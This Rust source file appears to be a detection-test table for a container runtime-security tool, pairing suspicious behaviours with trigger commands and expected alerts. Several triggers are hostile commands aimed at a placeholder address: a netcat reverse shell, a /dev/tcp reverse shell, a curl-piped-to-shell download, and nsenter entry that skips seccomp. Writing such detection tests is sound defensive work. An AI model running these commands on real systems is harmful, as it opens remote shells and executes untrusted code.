//! What runs that should not.

use kestrel_proto::v1::Priority::{Critical, Informational, Notice, Warning};

use super::act::{
    Act,
    Place::{Capable, HostTerminal, IntoOffline, IntoPod, Pod, Terminal},
};

pub(crate) const ACTS: &[Act] = &[
    Act::new("Interactive shell in a container", Notice, Terminal, ":", &["entered=born", "process=sh"]),
    Act::new(
        "Process came into a container past the runtime",
        Warning,
        IntoPod,
        r#"nsenter -t "$POD" -m /bin/nothing"#,
        &["process=nothing exe=/bin/nothing"],
    ),
    Act::new(
        "Entered process without the seccomp filter of its container",
        Warning,
        IntoOffline,
        r#"nsenter -t "$OFFLINE" -m /bin/nothing"#,
        &["entered=nsenter seccomp=disabled process=nothing"],
    ),
    Act::new(
        "Shell started by a service",
        Warning,
        Pod,
        "as postfix start /bin/sh -c true",
        &["process=sh exe=/bin/busybox command=sh -c true parent=postfix"],
    ),
    Act::new(
        "Service account at a terminal",
        Warning,
        HostTerminal,
        "setpriv --reuid=daemon --clear-groups /bin/sh -c true",
        &["process=sh", "user=daemon"],
    ),
    Act::new(
        "Netcat bound to a program",
        Critical,
        Pod,
        "nothing nc -e /bin/sh 203.0.113.7 4444",
        &["process=nc exe=/bin/nothing command=nc -e /bin/sh"],
    ),
    Act::new(
        "Standard stream put on a connection",
        Warning,
        Pod,
        "as implant stdio 203.0.113.7:4444",
        &["203.0.113.7:4444 number=0 process=implant"],
    ),
    Act::new(
        "Reverse shell in the arguments",
        Critical,
        Pod,
        "/bin/sh -c ': /dev/tcp/203.0.113.7/4444'",
        &["process=sh", "/dev/tcp/203.0.113.7/4444"],
    ),
    Act::new(
        "Download piped into an interpreter",
        Warning,
        Pod,
        "/bin/sh -c ': curl http://203.0.113.7/x | sh'",
        &["process=sh", "curl http://203.0.113.7/x | sh"],
    ),
    Act::new(
        "Program run from shared memory",
        Warning,
        Pod,
        "mkdir -p /dev/shm; echo true > /dev/shm/job; /bin/sh /dev/shm/job",
        &["process=sh exe=/bin/busybox command=sh /dev/shm/job"],
    ),
    Act::new(
        "Program run that is not of the image",
        Critical,
        Pod,
        "cp /bin/nothing /root/tool; /root/tool",
        &["process=tool exe=/root/tool"],
    ),
    Act::new(
        "Cluster or container client in a container",
        Warning,
        Pod,
        "nothing kubectl get pods",
        &["process=kubectl exe=/bin/nothing command=kubectl get pods"],
    ),
    Act::new("Privileged container started", Notice, Pod, ":", &["process=sh"]),
    Act::new(
        "Container started with dangerous capabilities",
        Informational,
        Capable,
        ":",
        &["CAP_SYS_PTRACE", "process=sh"],
    ),
    Act::new(
        "Container started with a folder that gives the node away",
        Notice,
        Capable,
        ":",
        &["mounts=/etc:/node-etc:", "process=sh"],
    ),
    Act::new(
        "System program opened a connection",
        Warning,
        Pod,
        "as sort knock 203.0.113.7:443",
        &["203.0.113.7:443 process=sort"],
    ),
    Act::new(
        "Shell opened a connection",
        Warning,
        Pod,
        "as bash knock 203.0.113.7:443",
        &["203.0.113.7:443 process=bash"],
    ),
];
